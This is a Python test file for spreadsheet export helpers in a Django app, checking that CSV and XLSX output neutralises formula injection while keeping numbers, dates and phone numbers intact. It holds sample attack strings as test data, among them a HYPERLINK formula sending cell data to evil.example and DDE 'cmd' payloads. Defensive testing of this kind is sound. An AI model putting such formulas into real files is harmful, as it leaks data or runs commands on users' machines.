"""Exports open safely in a spreadsheet: formulas neutralised, types preserved."""

import csv
import datetime as dt
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.http import FileResponse, StreamingHttpResponse

from fede.core.exports import escape_cell, sheet_title_safe, stream_csv, stream_xlsx

PARIS = ZoneInfo("Europe/Paris")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'

ROWS = [
    [
        HYPERLINK,
        12,
        3.5,
        Decimal("19.90"),
        dt.date(2025, 3, 14),
        dt.datetime(2025, 3, 14, 17, 30, tzinfo=dt.UTC),
        True,
        None,
    ],
    [
        "Dupont",
        -4,
        0.25,
        Decimal("1E+2"),
        dt.date(2024, 12, 31),
        dt.datetime(2025, 7, 1, 6, 0, tzinfo=dt.UTC),
        False,
        "@SUM(A1)",
    ],
]
HEADER = ["Nom", "Nombre", "Taux", "Montant", "Date", "Quand", "À jour", "Note"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        # A phone number or a signed number is no formula: kept intact.
        ("+33 1 23 45 67 89", "+33 1 23 45 67 89"),
        ("+33 (0)1 48.56.80.48", "+33 (0)1 48.56.80.48"),
        ("-2", "-2"),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+SUM(A1:A9)", "'-2+SUM(A1:A9)"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Dupont", "Dupont"),
        ("a=b", "a=b"),
        ("", ""),
        (-2, -2),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_escape_cell(value, expected):
    """Only text a spreadsheet would read as a formula gets a leading quote."""
    assert escape_cell(value) == expected


def _csv_rows(response):
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_stream_csv_escapes_formulas_and_keeps_numbers_and_dates():
    response = stream_csv(iter(ROWS), HEADER, "adhérents.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "adh%C3%A9rents.csv" in response["Content-Disposition"]

    header, first, second = _csv_rows(response)
    assert header == HEADER
    assert first == [
        "'" + HYPERLINK,
        "12",
        "3,5",
        "19,90",
        "2025-03-14",
        "2025-03-14 18:30",
        "oui",
        "",
    ]
    assert second == [
        "Dupont",
        "-4",
        "0,25",
        "100",
        "2024-12-31",
        "2025-07-01 08:00",
        "non",
        "'@SUM(A1)",
    ]


def test_stream_csv_is_lazy():
    """Rows are produced while the response is sent, not when it is built."""
    consumed = []

    def rows():
        for i in range(3):
            consumed.append(i)
            yield [i]

    response = stream_csv(rows(), ["n"], "n.csv")
    assert consumed == []
    assert _csv_rows(response) == [["n"], ["0"], ["1"], ["2"]]
    assert consumed == [0, 1, 2]


def _xlsx(response):
    body = b"".join(response.streaming_content)
    response.file_to_stream.close()
    return openpyxl.load_workbook(io.BytesIO(body))


def test_stream_xlsx_escapes_formulas_and_keeps_types():
    response = stream_xlsx(iter(ROWS), HEADER, "adhérents.xlsx", sheet_title="Adhérents")
    assert isinstance(response, FileResponse)
    assert (
        response["Content-Type"]
        == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    assert "adh%C3%A9rents.xlsx" in response["Content-Disposition"]

    workbook = _xlsx(response)
    sheet = workbook["Adhérents"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(HEADER)
    assert sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"

    link = sheet["A2"]
    # Typed text, kept intact, with Excel's "typed after an apostrophe" mark.
    assert link.value == HYPERLINK
    assert link.data_type == "s", "a formula-looking text must never be stored as a formula"
    assert link.quotePrefix
    assert sheet["H3"].value == "@SUM(A1)"
    assert rows[1][1:4] == (12, 3.5, 19.9)
    assert rows[2][1:4] == (-4, 0.25, 100)
    assert rows[1][4] == dt.datetime(2025, 3, 14)
    assert sheet["E2"].is_date
    # Datetimes in Paris time (spreadsheets have no time zones).
    assert rows[1][5] == dt.datetime(2025, 3, 14, 18, 30)
    assert rows[2][5] == dt.datetime(2025, 7, 1, 8, 0)
    assert rows[1][6] is True
    assert rows[1][7] is None


def test_stream_xlsx_has_no_formula_cells_at_all():
    """Whatever the text, no cell of the export is a formula."""
    nasty = [["=1+1", "+1", "-1", "@A1", "=cmd|' /C calc'!A0", "ok\x01\x02"]]
    workbook = _xlsx(stream_xlsx(nasty, ["a", "b", "c", "d", "e", "f"], "x.xlsx"))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert workbook.active["F2"].value == "ok", "control characters Excel refuses are dropped"


def test_stream_xlsx_with_many_rows():
    """A larger export goes through the temporary file and comes back complete."""
    rows = ([i, f"Adhérent {i}", dt.date(2025, 1, 1)] for i in range(5000))
    workbook = _xlsx(stream_xlsx(rows, ["n", "nom", "date"], "gros.xlsx"))
    assert workbook.active.max_row == 5001
    assert workbook.active["B5001"].value == "Adhérent 4999"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Adhérents", "Adhérents"),
        ("a/b:c*d?[e]", "a b c d e"),
        ("x" * 40, "x" * 31),
        ("[]", "Export"),
    ],
)
def test_sheet_title_safe(title, expected):
    assert sheet_title_safe(title) == expected


def test_phone_numbers_stay_intact_in_csv_and_xlsx():
    """A French phone number in international form is no formula: never prefixed."""
    phone = "+33 1 48 56 80 48"
    rows = [[phone, "=1+1"]]
    csv_rows = _csv_rows(stream_csv(iter(rows), ["Téléphone", "x"], "t.csv"))
    assert csv_rows[1] == [phone, "'=1+1"]
    sheet = _xlsx(stream_xlsx(iter(rows), ["Téléphone", "x"], "t.xlsx")).active
    assert sheet["A2"].value == phone
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "=1+1"
    assert sheet["B2"].data_type == "s"
